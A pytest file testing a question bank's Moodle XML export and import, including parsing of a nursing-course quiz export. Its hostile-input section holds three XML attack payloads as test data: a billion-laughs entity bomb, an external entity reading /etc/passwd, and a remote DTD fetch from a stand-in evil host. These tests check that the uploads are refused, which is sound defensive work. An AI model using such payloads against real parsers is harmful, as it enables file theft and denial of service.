"""Moodle XML: Moodle's own layout out, a real-looking Moodle export in, hostile XML refused."""

from __future__ import annotations

from pathlib import Path
from xml.etree.ElementTree import Element

import pytest
from defusedxml.ElementTree import fromstring

from question_bank.formats import export_items
from question_bank.formats import import_items
from question_bank.formats._xml import MAX_UPLOAD_BYTES
from question_bank.model import Choice
from question_bank.model import ItemType
from question_bank.model import MatchingBody
from question_bank.model import MultipleScoring
from question_bank.model import OrderingBody
from question_bank.model import TrueFalseBody

from .items import ALL_ITEMS
from .items import CLASSIFICATION
from .items import MULTIPLE_RIGHT_MINUS_WRONG
from .items import ORDERING
from .items import SINGLE

FIXTURE = Path(__file__).parent / "fixtures" / "foreign_moodle.xml"


@pytest.fixture(scope="module")
def foreign():
    return import_items(FIXTURE.read_bytes(), "moodle-xml", "components", source="quiz.xml")


def _questions(items) -> list[Element]:
    root = fromstring(export_items(items, "moodle-xml").encode())
    assert root.tag == "quiz"
    return root.findall("question")


# --------------------------------------------------------------------------- writing


def test_category_precedes_its_questions_and_names_the_pool() -> None:
    questions = _questions(ALL_ITEMS)
    assert questions[0].get("type") == "category"
    assert questions[0].findtext("category/text") == "$course$/top/components"
    categories = [q.findtext("category/text").rsplit("/", 1)[1]
                  for q in questions if q.get("type") == "category"]
    # A category is written whenever the pool changes, so the items keep their order.
    assert categories == ["components", "comparison", "barriers", "phases", "comparison",
                          "barriers"]


def test_multichoice_has_moodle_fields_in_moodle_order() -> None:
    question = _questions([SINGLE])[1]
    assert [child.tag for child in question][:8] == [
        "name", "questiontext", "generalfeedback", "defaultgrade", "penalty", "hidden",
        "idnumber", "single",
    ]
    assert question.findtext("name/text") == "comp-001"
    assert question.findtext("idnumber") == "comp-001"
    assert question.find("questiontext").get("format") == "html"
    answers = question.findall("answer")
    assert [a.get("fraction") for a in answers] == ["0", "100", "0"]
    assert answers[1].findtext("feedback/text") == (
        "<p>Correct: trust is listed first ~ see the seed.</p>"
    )
    assert [t.findtext("text") for t in question.findall("tags/tag")] == [
        "trust", "key-components", "qb:version=2", "qb:difficulty=1", "qb:enemy=comp-002"
    ]


def test_multiple_answers_weights_and_html_escaping() -> None:
    question = _questions([MULTIPLE_RIGHT_MINUS_WRONG])[1]
    assert question.findtext("single") == "false"
    assert question.findtext("defaultgrade") == "2"
    assert [a.get("fraction") for a in question.findall("answer")] == [
        "33.33333", "33.33333", "-33.33333", "33.33333"
    ]
    feedback = question.findtext("generalfeedback/text")
    assert feedback.startswith("<p>EARS: empathy, awareness of self, respect, self-disclosure.</p>")
    assert "<p>Source: 000_f0ef994ccb1e3b55.txt § Therapeutic use of self<br>" in feedback


def test_classification_is_matching_with_category_names_as_answers() -> None:
    question = _questions([CLASSIFICATION])[1]
    assert question.get("type") == "matching"
    pairs = [(s.findtext("text"), s.findtext("answer/text"))
             for s in question.findall("subquestion")]
    assert pairs == [
        ("<p>Goal: meet the client's needs</p>", "Therapeutic relationship"),
        ("<p>Termination is not defined</p>", "Social relationship"),
        ("<p>Identification of needs is present</p>", "Therapeutic relationship"),
    ]
    tags = [t.findtext("text") for t in question.findall("tags/tag")]
    assert "qb:kind=classification" in tags


def test_ordering_uses_the_ordering_qtype_in_correct_order() -> None:
    question = _questions([ORDERING])[1]
    assert question.get("type") == "ordering"
    assert question.findtext("layouttype") == "VERTICAL"
    assert question.findtext("selecttype") == "ALL"
    assert question.findtext("gradingtype") == "ABSOLUTE_POSITION"
    answers = question.findall("answer")
    assert [a.findtext("text") for a in answers] == [
        "<p>Pre-interaction phase</p>", "<p>Introductory (orientation) phase</p>",
        "<p>Working phase</p>", "<p>Termination phase</p>",
    ]
    assert [a.get("fraction") for a in answers] == [
        "1.0000000", "2.0000000", "3.0000000", "4.0000000"
    ]


def test_export_notes_are_written_as_comments() -> None:
    text = export_items(ALL_ITEMS, "moodle-xml")
    assert "<!-- NOTE comp-011: all-or-nothing scoring" in text


def test_gift_and_moodle_xml_give_the_same_items() -> None:
    from_gift = import_items(export_items(ALL_ITEMS, "gift"), "gift", "x")
    from_xml = import_items(export_items(ALL_ITEMS, "moodle-xml"), "moodle-xml", "x")
    assert from_gift.items == from_xml.items == list(ALL_ITEMS)


# --------------------------------------------------------------------------- reading


def test_foreign_export_skips_and_reports_what_the_bank_cannot_hold(foreign) -> None:
    assert "quiz.xml:70: question 2 (Reflection on boundaries): unsupported type essay (skipped)" \
        in foreign.problems
    assert "quiz.xml:173: question 5 (Replace sympathy): unsupported type shortanswer (skipped)" \
        in foreign.problems
    assert "quiz.xml:197: question 6 (Instructions): a description (text only, no answer) " \
           "(skipped)" in foreign.problems
    assert "quiz.xml:277: question 9 (Drag words): unsupported type ddwtos (skipped)" \
        in foreign.problems
    assert [item.kind for item in foreign.items] == [
        ItemType.SINGLE, ItemType.TRUE_FALSE, ItemType.MATCHING, ItemType.MULTIPLE,
        ItemType.ORDERING,
    ]


def test_foreign_category_is_not_a_pool(foreign) -> None:
    assert ("quiz.xml:4: category '$course$/top/Default for NURS101/Week 2' is not a pool "
            "name; its questions go to pool 'components'") in foreign.problems
    assert {item.pool for item in foreign.items} == {"components"}


def test_foreign_html_media_and_feedback(foreign) -> None:
    item = foreign.items[0]
    assert item.id == "comp-001"
    assert item.stem == "Which component does the psychiatric-nursing list name first?"
    assert item.body.options[0] == Choice("a", "Trust", "Yes – trust.")
    assert item.rationale == "Trust comes first in the list."
    assert item.tags == ("key-components",)
    assert "quiz.xml:15: question 1 (Trust first): img dropped from the question text" \
        in foreign.problems
    assert "quiz.xml:15: question 1 (Trust first): embedded file in the question text dropped" \
        in foreign.problems
    assert ("quiz.xml:15: question 1 (comp-001): no sources, no difficulty (set to 2) in the "
            "file: add before the bank validates") in foreign.problems


def test_foreign_true_false_matching_multiple_ordering(foreign) -> None:
    true_false, matching, multiple, ordering = foreign.items[1:]
    assert true_false.id == "tvs-101" and true_false.body == TrueFalseBody(True)
    assert true_false.rationale == "If you answered true: Right: limitations are set at the start."
    assert matching.body == MatchingBody(
        (Choice("p1", "Financial"), Choice("p2", "Physical")),
        (Choice("r1", "Lending a client money"), Choice("r2", "An unnecessary hug"),
         Choice("r3", "Sharing a diagnosis with the client")),
        {"p1": "r1", "p2": "r2"},
    )
    assert matching.points == 3
    assert multiple.body.key == frozenset({"a", "b"})
    assert multiple.body.scoring is MultipleScoring.RIGHT_MINUS_WRONG
    assert multiple.points == 3
    assert "quiz.xml:214: question 7 (comp-003): mark 2.5 rounded to 3 (the bank counts whole " \
           "points)" in foreign.problems
    assert ordering.id == "phase-101"
    assert ordering.body == OrderingBody(
        tuple(Choice(i, t) for i, t in zip("abcd", ["Pre-interaction", "Introductory",
                                                      "Working", "Termination"], strict=True)),
        ("a", "b", "c", "d"),
    )


def test_every_imported_item_lacking_rationale_or_sources_is_still_returned(foreign) -> None:
    assert all(item.sources == () for item in foreign.items)
    assert foreign.items[2].rationale == ""
    no_rationale = [p for p in foreign.problems if "no rationale" in p]
    assert len(no_rationale) == 3


# --------------------------------------------------------------------------- hostile input

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE quiz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<quiz><question type="truefalse"><name><text>&lol3;</text></name></question></quiz>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<quiz><question type="truefalse"><name><text>&secret;</text></name></question></quiz>
"""

EXTERNAL_DTD_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<quiz/>
"""


@pytest.mark.parametrize("hostile", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD_ENTITY])
def test_entities_and_external_references_are_refused(hostile: str) -> None:
    report = import_items(hostile, "moodle-xml", "p", source="evil.xml")
    assert report.items == []
    assert len(report.problems) == 1
    assert report.problems[0].startswith("evil.xml:")
    assert "not allowed in uploads" in report.problems[0]
    assert "root:" not in report.problems[0]


def test_malformed_xml_reports_the_line() -> None:
    report = import_items("<quiz>\n<question type='multichoice'>\n</quiz>", "moodle-xml", "p",
                          source="bad.xml")
    assert report.items == []
    assert report.problems == [
        "bad.xml:3: not well-formed XML (mismatched tag); nothing imported"
    ]


def test_wrong_root_and_empty_quiz() -> None:
    assert import_items("<questestinterop/>", "moodle-xml", "p", source="a.xml").problems == [
        "a.xml:1: root element is <questestinterop>, not Moodle XML's <quiz>; nothing imported"
    ]
    assert import_items("<quiz/>", "moodle-xml", "p", source="a.xml").problems == [
        "a.xml: no questions found"
    ]


def test_oversized_upload_is_refused_before_parsing() -> None:
    report = import_items(b"<quiz>" + b" " * MAX_UPLOAD_BYTES + b"</quiz>", "moodle-xml", "p")
    assert report.items == []
    assert "larger than 20 MB" in report.problems[0]


def test_a_question_with_nonsense_values_is_skipped_not_raised() -> None:
    text = """<quiz><question type="multichoice"><name><text>q</text></name>
      <questiontext format="html"><text>Pick</text></questiontext>
      <single>true</single>
      <answer fraction="zero"><text>A</text></answer>
      <answer fraction="0"><text>B</text></answer></question></quiz>"""
    report = import_items(text, "moodle-xml", "p", source="odd.xml")
    assert report.items == []
    assert report.problems == ["odd.xml:1: question 1 (q): no option is marked correct (skipped)"]
